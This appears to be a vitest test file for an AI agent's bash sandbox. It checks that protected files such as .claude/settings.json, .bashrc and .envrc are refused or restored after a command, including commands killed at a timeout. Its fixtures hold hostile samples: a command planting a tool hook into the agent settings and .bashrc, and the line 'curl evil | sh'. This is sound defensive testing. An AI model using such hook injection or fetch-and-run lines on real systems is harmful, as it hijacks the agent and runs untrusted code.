// bash on the machine's backend changing protected entries: bwrap refuses
// the writes; Landlock alone lets them happen and puts the entries back
// when the call ends — also when the deadline killed it — recording a
// `sandbox/restored` event and saying so in the result. Either way the
// entries are as they were afterwards. Run under `.ci/without-bwrap` for
// the Landlock path.
import { spawnSync } from 'node:child_process'
import fs from 'node:fs'
import path from 'node:path'
import { afterEach, describe, expect, it, onTestFinished } from 'vitest'
import { sandboxBackend, skipWhen } from '../backends.js'
import { setup, teardown, text, tmp } from './helpers.js'

afterEach(teardown)

const backend = await sandboxBackend()

function workspace(): string {
  const ws = tmp('ws')
  fs.mkdirSync(path.join(ws, '.claude'))
  fs.writeFileSync(path.join(ws, '.claude/settings.json'), '{"hooks":{}}\n')
  fs.writeFileSync(path.join(ws, '.bashrc'), '# mine\n')
  return ws
}

const PLANT = 'echo \'{"hooks":{"PreToolUse":[{"hooks":[{"type":"command","command":"evil"}]}]}}\' > .claude/settings.json; echo evil >> .bashrc'

describe.skipIf(skipWhen(!backend, 'bash changing protected entries', 'no sandbox backend can confine bash here'))(`protected entries under bash (${backend})`, () => {
  it('what the command changed is as it was after the call; Landlock records sandbox/restored and says so', async () => {
    const ws = workspace()
    const { k } = await setup({ mode: 'workspace-write', sandbox: { workspace: ws } })
    const r = await k.call('bash', { command: `${PLANT}; echo done` }, { callId: 'p1' })
    expect(text(r)).toContain('done')
    expect(fs.readFileSync(path.join(ws, '.claude/settings.json'), 'utf8')).toBe('{"hooks":{}}\n')
    expect(fs.readFileSync(path.join(ws, '.bashrc'), 'utf8')).toBe('# mine\n')
    const events = k.session.events().filter((e) => e.type === 'sandbox/restored')
    if (backend === 'landlock') {
      expect(text(r)).toMatch(/\[sandbox: removed or restored protected paths the command changed: .*\.claude/)
      expect(events.map((e) => e.data)).toEqual([{ callId: 'p1', paths: expect.arrayContaining([path.join(ws, '.claude'), path.join(ws, '.bashrc')]) }])
    } else {
      expect(events).toEqual([])
    }
  })

  it('an entry a killed dsh process\'s call left changed is put back by the next call, which records sandbox/reclaimed', async () => {
    const ws = workspace()
    const envrc = path.join(ws, '.envrc')
    const lib = path.resolve(import.meta.dirname, '../../core/sandbox/lib/index.js')
    // Why a ledger of its own (TMPDIR, for this test and the processes it starts): another dsh process's first call would put back what the killed holder left before this test's call
    const privateTmp = tmp('ledger')
    const tmpdirBefore = process.env.TMPDIR
    process.env.TMPDIR = privateTmp
    onTestFinished(() => {
      if (tmpdirBefore === undefined) delete process.env.TMPDIR
      else process.env.TMPDIR = tmpdirBefore
    })
    // a real dsh process takes .envrc (absent) for its call, the command writes one, and the process is killed
    const script = `import { leaseProtected } from ${JSON.stringify(lib)}; import { writeFileSync } from 'node:fs'; leaseProtected([${JSON.stringify(envrc)}], [${JSON.stringify(ws)}]); writeFileSync(${JSON.stringify(envrc)}, 'curl evil | sh'); process.kill(process.pid, 'SIGKILL')`
    expect(spawnSync(process.execPath, ['--input-type=module', '-e', script]).signal).toBe('SIGKILL')
    const { k } = await setup({ mode: 'workspace-write', sandbox: { workspace: ws } })
    const r = await k.call('bash', { command: 'test -e .envrc && echo present || echo absent' }, { callId: 'r1' })
    expect(text(r)).toContain('absent')
    const events = k.session.events().filter((e) => e.type === 'sandbox/reclaimed').map((e) => e.data as { callId: string; path: string; displaced?: string })
    expect(events).toEqual([{ callId: 'r1', path: envrc, displaced: expect.stringMatching(/\.envrc\.dsh-displaced-/) }])
    expect(fs.readFileSync(events[0].displaced!, 'utf8')).toBe('curl evil | sh')
    expect(fs.existsSync(envrc)).toBe(false)
  })

  it('a call killed at its deadline is put back too, and the TIMEOUT says so', async () => {
    const ws = workspace()
    const { k } = await setup({ mode: 'workspace-write', sandbox: { workspace: ws } })
    const r = await k.call('bash', { command: `${PLANT}; sleep 30`, timeout: 1000 }, { callId: 'p2' })
    expect(r.error?.code).toBe('TIMEOUT')
    expect(fs.readFileSync(path.join(ws, '.claude/settings.json'), 'utf8')).toBe('{"hooks":{}}\n')
    expect(fs.readFileSync(path.join(ws, '.bashrc'), 'utf8')).toBe('# mine\n')
    if (backend === 'landlock') {
      expect(r.error?.message).toMatch(/restored protected paths the command changed/)
      expect(k.session.events().some((e) => e.type === 'sandbox/restored' && (e.data as any).callId === 'p2')).toBe(true)
    }
  })
})
